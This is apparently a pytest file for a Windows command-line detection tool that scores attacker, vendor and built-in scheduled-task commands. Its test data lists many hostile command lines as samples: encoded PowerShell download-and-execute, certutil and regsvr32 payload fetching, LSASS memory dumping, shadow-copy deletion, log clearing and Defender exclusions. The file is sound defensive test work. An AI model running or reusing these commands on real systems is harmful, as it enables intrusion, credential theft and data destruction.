"""Command lines of attackers, administrators and vendors; every command that Windows ships."""

import base64
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.analysis.made import host
from tests.material import shared
from triptych.analysis.commands import Place, expand, judge, known_product, place_of, program_of
from triptych.analysis.powershell import decode, read_call
from triptych.model.case import Host

HERE = Host()


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def strong_ids(command: str, arguments: str = "", on: Host = HERE) -> set[str]:
    return {trait.id for trait in judge(command, arguments, on) if trait.weight == "strong"}


@pytest.mark.parametrize(
    ("command", "arguments", "expected"),
    [
        (
            "powershell.exe",
            "-w hidden -nop -enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
            "encoded",
        ),
        ("cmd.exe", "/c start /min powershell -w h -e " + encoded("iwr http://x -o a.exe; ./a.exe"), "encoded"),
        ("pwsh", "–EncodedCommand " + encoded("[Convert]::FromBase64String('AA==')"), "in-memory"),
        ("powershell", "-enc !!not-base64!!", "encoded"),
        ("powershell", "-ec " + encoded("powershell -ep bypass -File C:\\Users\\Public\\a.ps1"), "writable-place"),
        ("powershell.exe", '-NoProfile -Command "& {Invoke-WebRequest -Uri http://x -OutFile c:\\x.exe}"', "download"),
        ("mshta.exe", 'javascript:a=GetObject("script:http://x/a.sct")', "proxy"),
        ("rundll32.exe", 'javascript:"\\..\\mshtml,RunHTMLApplication "', "proxy"),
        ("rundll32", "C:\\ProgramData\\x\\u.dll,Start", "writable-place"),
        ("rundll32", "C:\\Windows\\x.dat,#1", "rundll32"),
        ("rundll32", "", "rundll32"),
        ("rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full", "credentials"),
        ("regsvr32.exe", "/s /n /u /i:http://x/a.sct scrobj.dll", "proxy"),
        ("msiexec", "/q /i https://x/a.msi", "proxy"),
        ("certutil.exe", "-urlcache -split -f http://x a.exe", "download"),
        ("bitsadmin", "/transfer j http://x c:\\a.exe", "download"),
        ("forfiles", "/p c:\\windows\\system32 /m notepad.exe /c calc.exe", "proxy"),
        ("pcalua.exe", "-a C:\\Users\\x\\a.exe", "writable-place"),
        ("conhost.exe", "--headless cmd /c whoami", "hidden-window"),
        ("wscript.exe", "//B //E:jscript C:\\ProgramData\\a.txt", "quiet-script"),
        ("C:\\Users\\Public\\a.vbs", "", "script-command"),
        ("cmstp.exe", "/s /ni C:\\Windows\\a.inf", "proxy"),
        ("odbcconf", "/a {regsvr C:\\x.dll}", "proxy"),
        ("wmic.exe", "process call create calc.exe", "proxy"),
        ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "C:\\Users\\a\\x.csproj", "writable-place"),
        ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", "/U C:\\Users\\a\\x.dll", "writable-place"),
        ("cmd.exe", "/C whoami > %windir%\\Temp\\abc.tmp 2>&1", "output-to-temp"),
        ("cmd.exe", "/Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", "remote-path"),
        ("cmd", "/c p^o^w^e^r^s^h^e^l^l", "obfuscated"),
        ("cmd", "/c %ComSpec:~-7,1%alc", "obfuscated"),
        ("cmd", "/c echo" + " " * 60 + "& calc", "obfuscated"),
        ("powershell", "-c \"& ('Down'+'load'+'Str'+'ing')\"", "obfuscated"),
        (
            "reg.exe",
            'delete "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\x" /v SD /f',
            "tampers-taskcache",
        ),
        ("cmd", "/c wevtutil cl System", "clears-logs"),
        ("vssadmin.exe", "delete shadows /all /quiet", "stops-recovery"),
        ("bcdedit", "/set {default} recoveryenabled No", "stops-recovery"),
        ("powershell", "Add-MpPreference -ExclusionPath C:\\", "weakens-defence"),
        ("net.exe", "user x y /add", "accounts"),
        ("\\\\10.0.0.5\\share\\a.exe", "", "remote-path"),
        ("\\\\evil@SSL@443\\DavWWWRoot\\a.exe", "", "webdav"),
        ("\\\\evil@8080\\x\\a.exe", "", "webdav"),
        ("C:\\Windows \\System32\\x.exe", "", "mock-folder"),
        ("C:\\Program Files\\x\\invoice.pdf.exe", "", "double-suffix"),
        ("C:\\Windows\\System32\\a.txt:evil.exe", "", "hidden-stream"),
        ("C:\\Windows\\System32\\cod\u202eexe.txt", "", "deceptive-characters"),
        ("C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\a.bat", "", "writable-place"),
        ("%APPDATA%\\x.exe", "", "writable-place"),
        ("C:\\ProgramData\\Microsoft\\Windows\\svchost.exe", "", "writable-place"),
    ],
)
def test_what_attackers_write(command: str, arguments: str, expected: str) -> None:
    assert expected in strong_ids(command, arguments)


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        ("rundll32.exe", '"C:\\Program Files\\HP\\hp.dll",Run'),
        ("reg.exe", "add HKLM\\SOFTWARE\\Lenovo /v x /d 1 /f"),
        ("sc", "start hptouchpointanalyticsservice"),
        ("schtasks.exe", "/change /tn \\Lenovo\\x /disable"),
        ("powershell.exe", '-ExecutionPolicy Bypass -File "C:\\Program Files\\Agent\\run.ps1"'),
        ("powershell.exe", "-NonInteractive -EncodedCommand " + encoded("Get-Service | Out-File C:\\Windows\\CCM\\Logs\\s.log")),
        ("powershell.exe", "-WindowStyle Hidden -File C:\\Windows\\CCM\\check.ps1"),
        ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2203.5-0\\MpCmdRun.exe", "-IdleTask"),
        ("%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "/reporting"),
        ("powershell.exe", "-File \\\\corp.local\\SYSVOL\\corp.local\\scripts\\a.ps1"),
        ("%windir%\\system32\\gatherNetworkInfo.vbs", ""),
        ("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/ua /installsource scheduler"),
        ("C:\\WindowsAzure\\GuestAgent\\a.exe", ""),
    ],
)
def test_what_vendors_and_administrators_write_is_weak(command: str, arguments: str) -> None:
    assert strong_ids(command, arguments) == set()


def test_everything_that_windows_ships_is_weak() -> None:
    """But for two old tasks of Media Center, whose programs lie in ProgramData indeed."""
    tasks = json.loads(shared("data/stock-tasks.json").read_text("utf-8"))["tasks"]
    loud = {
        task["path"].rpartition("\\")[2]
        for task in tasks
        for action in task["actions"]
        if action["type"] == "Exec" and strong_ids(action["command"].replace("<version>", "4.18.1-0"), action["arguments"] or "")
    }
    assert loud == {"RegisterObject", "VCore"}


def test_the_domain_of_a_logon_share_counts_where_it_is_known() -> None:
    line = ("powershell.exe", "-File \\\\evil.example\\SYSVOL\\a.ps1")
    assert "remote-path" in strong_ids(*line, on=host(domain="corp.local"))
    assert "remote-path" not in strong_ids(
        "powershell.exe", "-File \\\\dc1.corp.local\\NETLOGON\\a.ps1", on=host(domain="corp.local")
    )


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("C:\\Windows\\System32\\x.exe", Place.WINDOWS),
        ("%windir%\\x.exe", Place.WINDOWS),
        ("\\SystemRoot\\System32\\x.exe", Place.WINDOWS),
        ("\\??\\C:\\Windows\\x.exe", Place.WINDOWS),
        ('"C:\\Program Files\\a b\\x.exe"', Place.PROGRAM_FILES),
        ("C:\\PROGRA~2\\x\\y.exe", Place.PROGRAM_FILES),
        ("%ProgramFiles(x86)%\\x\\y.exe", Place.PROGRAM_FILES),
        ("C:\\ProgramData\\x.exe", Place.PROGRAM_DATA),
        ("%ALLUSERSPROFILE%\\x\\y.exe", Place.PROGRAM_DATA),
        ("C:\\Users\\a\\AppData\\Roaming\\x.exe", Place.USER),
        ("C:\\Users\\Public\\x.exe", Place.USER),
        ("C:\\Windows\\..\\Users\\Public\\x.exe", Place.USER),
        ("c:/users/a/downloads/x.exe", Place.USER),
        ("%LOCALAPPDATA%\\Temp\\x.exe", Place.TEMP),
        ("C:\\Windows\\Temp\\x.exe", Place.TEMP),
        ("%TEMP%\\x.exe", Place.TEMP),
        ("C:\\Windows\\System32\\Tasks\\x.exe", Place.WINDOWS_WRITABLE),
        ("C:\\Windows\\Tasks\\x.exe", Place.WINDOWS_WRITABLE),
        ("C:\\Windows\\System32\\spool\\drivers\\color\\x.exe", Place.WINDOWS_WRITABLE),
        ("C:\\Windows\\Tracing\\x.exe", Place.WINDOWS_WRITABLE),
        ("C:\\tools\\x.exe", Place.ROOT_FOLDER),
        ("C:\\x.exe", Place.ROOT_FOLDER),
        ("E:\\Windows2\\x.exe", Place.ROOT_FOLDER),
        ("C:\\Windows \\x.exe", Place.ROOT_FOLDER),
        ("C:\\$Recycle.Bin\\S-1-5-18\\x.exe", Place.RECYCLE),
        ("C:\\PerfLogs\\x.exe", Place.PERFLOGS),
        ("\\\\srv\\share\\x.exe", Place.UNC),
        ("\\\\?\\UNC\\srv\\share\\x.exe", Place.UNC),
        ("\\\\srv@SSL\\DavWWWRoot\\x.exe", Place.WEBDAV),
        ("x.exe", Place.UNKNOWN),
        ("", Place.UNKNOWN),
    ],
)
def test_places(path: str, place: Place) -> None:
    assert place_of(path) is place
    assert place.writable_by_users == (place not in (Place.WINDOWS, Place.PROGRAM_FILES, Place.UNKNOWN))


@pytest.mark.parametrize(
    ("command", "arguments", "program"),
    [
        ("powershell", "", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        ("CMD.EXE", "", "C:\\Windows\\System32\\cmd.exe"),
        ("cmd /c dir", "", "C:\\Windows\\System32\\cmd.exe"),
        ("%comspec%", "/c x", "C:\\Windows\\System32\\cmd.exe"),
        ('"C:\\Program Files\\A B\\c.exe" -x', "", "C:\\Program Files\\A B\\c.exe"),
        ("C:\\Program Files\\A B\\c.exe", "-x", "C:\\Program Files\\A B\\c.exe"),
        ("C:\\Program Files\\A B\\c.exe -x y.exe", "", "C:\\Program Files\\A B\\c.exe"),
        ("myown.exe", "", "myown.exe"),
        ("%unknown%\\x.exe", "", "%unknown%\\x.exe"),
    ],
)
def test_program(command: str, arguments: str, program: str) -> None:
    assert program_of(command, arguments, HERE).casefold() == program.casefold()


def test_the_host_says_where_windows_is() -> None:
    assert expand("%SystemRoot%\\x %ProgramFiles% %nope%", host(system_root="D:\\WINNT")) == "D:\\WINNT\\x D:\\Program Files %nope%"


def test_known_products_are_a_narrow_list() -> None:
    assert known_product("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MpCmdRun.exe")
    assert not known_product("C:\\ProgramData\\Microsoft\\Windows Defender\\evil.exe")
    assert not known_product("C:\\ProgramData\\Microsoft\\x.exe")
    assert not known_product("C:\\ProgramData\\Lenovo\\..\\x.exe")


@pytest.mark.parametrize("switch", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "\u2013enc"])
def test_every_way_to_write_encoded_command(switch: str) -> None:
    call = read_call(f"-NoProfile -nop -NonInteractive {switch} {encoded('whoami')}")
    assert call.decoded == "whoami"


def test_execution_policy_is_no_encoded_command() -> None:
    call = read_call("-ExecutionPolicy Bypass -Exec Bypass -ep Bypass -File x.ps1")
    assert (call.encoded, call.policy, call.file) == ("", "Bypass", "x.ps1")


@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=3, max_size=200))
def test_what_was_encoded_is_decoded(text: str) -> None:
    assert decode(encoded(text)) == text


@given(st.text(max_size=300), st.text(max_size=300))
def test_any_text_is_judged(command: str, arguments: str) -> None:
    for trait in judge(command, arguments, HERE):
        assert trait.words
        assert trait.weight in ("strong", "weak")


@pytest.mark.parametrize("piece", ["C:\\", "schtasks ", "\\\\a\\", "[char]1", "start ", "/:", "%a%", "^a", '"', "& ", "cmd /c "])
def test_long_hostile_texts_come_to_an_end(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    assert isinstance(judge("cmd.exe", "/c " + text, HERE), tuple)
    assert isinstance(judge(text, text, HERE), tuple)


def test_words_complete_a_sentence() -> None:
    words = [trait.words for trait in judge("powershell", "-ep bypass -File C:\\Users\\Public\\a.ps1", HERE)]
    assert words == ["runs a file in a user's folder", "sets the script policy of PowerShell aside"]


@pytest.mark.parametrize(
    "line", ["iwr https://x.example/a", "iwr -useb x.example/a", "irm x.example|iex", "'http://x'|irm", '(irm \\"http://x\\")']
)
def test_short_names_of_downloading_commands(line: str) -> None:
    assert "download" in strong_ids("powershell.exe", f"-c {line}")


@pytest.mark.parametrize(
    "command", ["C:\\Program Files\\IRM\\irm.exe", "C:\\Program Files\\IWR\\a.exe", "C:\\Program Files\\iex\\iex.exe"]
)
def test_short_names_in_paths_are_names(command: str) -> None:
    assert not strong_ids(command, "/quiet")
